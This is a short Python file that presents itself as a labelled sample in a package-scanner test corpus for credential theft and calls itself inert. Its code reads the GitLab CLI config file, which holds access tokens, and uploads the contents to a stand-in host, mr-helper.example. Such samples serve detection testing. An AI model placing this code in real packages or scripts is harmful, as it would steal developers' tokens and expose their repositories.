# pkgguard corpus 663 (credentials), modelled on [developer-persistence]; inert, never run.
import os

import requests

for path in ("~/.config/glab-cli/config.yml", "~/Library/Application Support/glab-cli/config.yml"):
    full = os.path.expanduser(path)
    if os.path.isfile(full):
        with open(full, encoding="utf-8") as fh:
            requests.put("https://mr-helper.example/g", data=fh.read(), timeout=15)
        break
